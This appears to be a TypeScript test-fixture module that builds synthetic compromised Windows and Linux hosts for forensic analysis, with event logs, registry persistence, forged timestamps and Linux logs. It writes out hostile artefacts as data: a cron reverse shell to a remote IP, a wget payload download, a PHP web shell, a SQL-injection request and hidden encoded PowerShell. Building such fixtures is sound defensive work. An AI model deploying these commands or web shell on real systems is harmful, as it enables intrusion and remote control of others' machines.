// Small examined hosts: what an intruder left on a Windows and on a Linux, with the traces of ordinary days around it.

import { time as filetime, u32, u64, wide } from './artefact-fields.ts'
import { ChunkWriter, eventRecord, type EventSpec, logFile } from './evtx-writer.ts'
import { binary, dword, key, merged, sz, writeHive } from './hive-writer.ts'
import { fileName, recordBytes, standardInformation, writeRecord } from './mft-writer.ts'
import { writePrefetch } from './prefetch-writer.ts'
import { eicar } from './run-haechi.ts'
import { volumeInfo, writeShortcut } from './shortcut-writer.ts'
import { smallProgram } from './signed-program.ts'
import { writeUtmp } from './utmp-writer.ts'

const windowsEpoch = 116_444_736_000_000_000n

/** FILETIME of an ISO time. */
function ticks(iso: string): bigint {
  return BigInt(Date.parse(iso)) * 10_000n + windowsEpoch
}

function eventLog(events: readonly (EventSpec & { readonly id?: number })[]): Buffer {
  const chunk = new ChunkWriter()
  for (const [index, event] of events.entries()) chunk.add(eventRecord(event.id ?? index + 1, event))
  return logFile([chunk.bytes()])
}

const logon = {
  TargetUserName: 'bob',
  TargetDomainName: 'PC',
  TargetUserSid: 'S-1-5-21-1-2-3-1001',
  TargetLogonId: '0x5555',
  LogonType: '10',
  IpAddress: '203.0.113.9',
  IpPort: '51000',
}

function security(): Buffer {
  const at = (time: string): Pick<EventSpec, 'channel' | 'computer' | 'time'> => ({
    channel: 'Security',
    computer: 'PC-7',
    time: ticks(time),
  })
  const process = (
    pid: string,
    [parent, parentName]: readonly [string, string],
    name: string,
    commandLine: string,
  ): Record<string, string> => ({
    SubjectUserName: 'bob',
    SubjectLogonId: '0x5555',
    NewProcessId: pid,
    NewProcessName: name,
    ProcessId: parent,
    ParentProcessName: parentName,
    CommandLine: commandLine,
  })
  return eventLog([
    { ...at('2026-03-01T10:00:00Z'), eventId: 4625, data: logon },
    { ...at('2026-03-01T10:00:05Z'), eventId: 4624, data: logon },
    {
      ...at('2026-03-01T10:01:00Z'),
      eventId: 4688,
      data: process(
        '0x100',
        ['0x90', 'C:\\Windows\\explorer.exe'],
        'C:\\Windows\\System32\\cmd.exe',
        'cmd.exe /c whoami',
      ),
    },
    {
      ...at('2026-03-01T10:02:00Z'),
      eventId: 4688,
      data: process(
        '0x110',
        ['0x100', 'C:\\Windows\\System32\\cmd.exe'],
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell -nop -w hidden -enc SQBFAFgA',
      ),
    },
    {
      ...at('2026-03-01T10:02:40Z'),
      eventId: 4688,
      data: process(
        '0x120',
        ['0x110', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
        'C:\\Users\\bob\\AppData\\evil.exe',
        'evil.exe',
      ),
    },
    // Five records were taken out.
    { ...at('2026-03-01T10:05:00Z'), eventId: 4624, data: { ...logon, LogonType: '5' }, id: 10 },
  ])
}

function system(): Buffer {
  return eventLog([
    {
      channel: 'System',
      computer: 'PC-7',
      time: ticks('2026-03-01T10:03:00Z'),
      eventId: 7045,
      data: {
        ServiceName: 'WinUpd',
        ImagePath: 'C:\\Users\\bob\\AppData\\evil.exe',
        ServiceType: 'user mode service',
        StartType: 'auto start',
        AccountName: 'LocalSystem',
      },
    },
    {
      channel: 'System',
      computer: 'PC-7',
      time: ticks('2026-03-01T10:06:00Z'),
      eventId: 104,
      data: { Channel: 'Application' },
    },
  ])
}

function softwareHive(): Buffer {
  const current = 'Microsoft\\Windows\\CurrentVersion'
  const task = 'Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache'
  const actions = Buffer.concat([
    Buffer.from([3, 0]),
    u32(12),
    wide('Author'),
    Buffer.from([0x66, 0x66]),
    u32(0),
    u32(2 * 'C:\\Users\\bob\\AppData\\evil.exe'.length),
    wide('C:\\Users\\bob\\AppData\\evil.exe'),
    u32(0),
    u32(0),
    Buffer.from([0, 0]),
  ])
  return writeHive({
    name: 'ROOT',
    subkeys: merged([
      key('Microsoft\\Windows NT\\CurrentVersion', [
        sz('ProductName', 'Windows 10 Pro'),
        sz('CurrentBuildNumber', '19045'),
      ]),
      key(`${current}\\Run`, [
        sz('Updater', 'C:\\Users\\bob\\AppData\\evil.exe /quiet'),
        sz('Loader', 'powershell.exe -w hidden -enc SQBFAFgA'),
      ]),
      key(`${task}\\Tree\\Hidden`, [sz('Id', '{11111111-2222-3333-4444-555555555555}')]),
      key(`${task}\\Tasks\\{11111111-2222-3333-4444-555555555555}`, [
        sz('Path', '\\Hidden'),
        binary('Actions', actions),
      ]),
    ]),
  })
}

function systemHive(): Buffer {
  return writeHive({
    name: 'ROOT',
    subkeys: merged([
      key('Select', [dword('Current', 1)]),
      key('ControlSet001\\Control\\ComputerName\\ComputerName', [sz('ComputerName', 'PC-7')]),
      key('ControlSet001\\Services\\WinUpd', [
        dword('Type', 0x10),
        dword('Start', 2),
        sz('ImagePath', 'C:\\Users\\bob\\AppData\\evil.exe'),
        sz('ObjectName', 'LocalSystem'),
      ]),
    ]),
  })
}

function userHive(): Buffer {
  return writeHive({
    name: 'ROOT',
    subkeys: merged([
      key('Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU', [
        sz('MRUList', 'a'),
        sz('a', 'cmd /k ipconfig\\1'),
      ]),
      key('Software\\Microsoft\\Windows\\CurrentVersion\\Run', [
        sz('Chat', 'C:\\Program Files\\Chat\\chat.exe'),
      ]),
    ]),
  })
}

function fileTable(): Buffer {
  const named = {
    created: '2026-03-01T09:00:00.7654321Z',
    modified: '2026-03-01T09:00:00.7654321Z',
    changed: '2026-03-01T09:00:00.7654321Z',
    accessed: '2026-03-01T09:00:00.7654321Z',
  }
  const forged = {
    created: '2019-01-01T00:00:00Z',
    modified: '2019-01-01T00:00:00Z',
    changed: '2026-03-01T09:00:00.7654321Z',
    accessed: '2019-01-01T00:00:00Z',
  }
  const root = writeRecord({
    sequence: 5,
    isDirectory: true,
    attributes: [standardInformation(named), fileName({ parent: [5, 5], name: '.', times: named })],
  })
  const file = (name: string, times: typeof named, inUse = true): Buffer =>
    writeRecord({
      sequence: 1,
      inUse,
      attributes: [standardInformation(times), fileName({ parent: [5, 5], name, times: named })],
    })
  const free = Buffer.alloc(recordBytes)
  return Buffer.concat([
    file('$MFT', named),
    ...Array.from({ length: 4 }, () => free),
    root,
    file('stamped.exe', forged),
    file('gone.exe', named, false),
    file('usual.txt', named),
  ])
}

function deletedFile(): Buffer {
  const path = 'C:\\Users\\bob\\notes.docx\0'
  return Buffer.concat([u64(2), u64(1234), filetime('2026-03-01T10:07:00Z'), u32(path.length), wide(path)])
}

const task = `<?xml version="1.0" encoding="UTF-8"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
<RegistrationInfo><Date>2026-03-01T10:04:00</Date><Author>PC\\bob</Author><URI>\\Update</URI></RegistrationInfo>
<Settings><Hidden>true</Hidden></Settings>
<Actions><Exec><Command>C:\\Users\\bob\\AppData\\evil.exe</Command><Arguments>-s</Arguments></Exec></Actions></Task>`

const zone = '[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://evil.example/evil.exe\r\n'

/** Files by path; streams as `PATH:STREAM`. */
export function windowsHost(): Readonly<Record<string, Buffer>> {
  return {
    '/$MFT': fileTable(),
    '/$Recycle.Bin/S-1-5-21-1-2-3-1001/$IABC123.docx': deletedFile(),
    '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/u.lnk': writeShortcut({
      created: '2026-03-01T09:30:00Z',
      linkInfo: volumeInfo('C:\\Users\\bob\\AppData\\', 'DISK', 'evil.exe'),
      texts: [undefined, undefined, undefined, '-s'],
    }),
    '/Users/bob/AppData/evil.exe': smallProgram(),
    '/Users/bob/AppData/evil.exe:Zone.Identifier': Buffer.from(zone),
    '/Users/bob/Downloads/eicar.com': Buffer.from(eicar),
    '/Users/bob/NTUSER.DAT': userHive(),
    '/Windows/Prefetch/EVIL.EXE-0000ABCD.pf': writePrefetch({
      version: 30,
      executable: 'EVIL.EXE',
      hash: 0xabcd,
      runCount: 3,
      runs: ['2026-03-01T10:02:30Z'],
      files: ['\\VOLUME{01}\\USERS\\BOB\\APPDATA\\EVIL.EXE'],
      volume: { path: '\\VOLUME{01}', created: '2025-01-01T00:00:00Z', serial: 1, directories: [] },
    }),
    '/Windows/System32/Tasks/Update': Buffer.from(task),
    '/Windows/System32/config/SOFTWARE': softwareHive(),
    '/Windows/System32/config/SYSTEM': systemHive(),
    '/Windows/System32/winevt/Logs/Security.evtx': security(),
    '/Windows/System32/winevt/Logs/System.evtx': system(),
    // A record is damaged.
    '/Windows/System32/winevt/Logs/Broken.evtx': Buffer.from(security().fill(0xff, 5000, 5100)),
  }
}

const seconds = (iso: string): number => Date.parse(iso) / 1000

export function linuxHost(): Readonly<Record<string, Buffer | string>> {
  return {
    '/etc/hostname': 'web1\n',
    '/etc/os-release': 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
    '/etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\ntoor:x:0:0::/root:/bin/sh\n',
    '/etc/ld.so.preload': '/usr/lib/libhide.so\n',
    '/etc/cron.d/sync': '# comment\n*/5 * * * * root bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n',
    '/etc/systemd/system/app.service': '[Service]\nExecStart=/usr/bin/app\n',
    '/root/.bash_history': '#1772359260\nwget http://203.0.113.9/x -O /tmp/x\n#1772359270\nchmod +x /tmp/x\n',
    '/var/log/auth.log':
      '2026-03-01T10:00:00.000000+00:00 web1 sshd[700]: Failed password for root from 203.0.113.9 port 40000 ssh2\n' +
      '2026-03-01T10:00:09.000000+00:00 web1 sshd[701]: Accepted password for root from 203.0.113.9 port 40001 ssh2\n',
    '/var/log/nginx/access.log':
      '198.51.100.7 - - [01/Mar/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0"\n' +
      '203.0.113.9 - - [01/Mar/2026:09:01:00 +0000] "GET /p?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20- HTTP/1.1" 200 9999 "-" "sqlmap/1.7"\n',
    '/var/log/wtmp': writeUtmp([
      { type: 2, seconds: seconds('2026-03-01T08:00:00Z'), line: '~', user: 'reboot' },
      {
        type: 7,
        seconds: seconds('2026-03-01T10:00:09Z'),
        pid: 701,
        line: 'pts/0',
        user: 'root',
        host: '203.0.113.9',
        ip: '203.0.113.9',
      },
    ]),
    '/var/log/btmp': writeUtmp([
      {
        type: 6,
        seconds: seconds('2026-03-01T10:00:00Z'),
        pid: 700,
        line: 'ssh:notty',
        user: 'root',
        host: '203.0.113.9',
        ip: '203.0.113.9',
      },
    ]),
    '/var/www/html/up.php': '<?php @eval($_POST["c"]); system($_GET["x"]); ?>\n',
  }
}
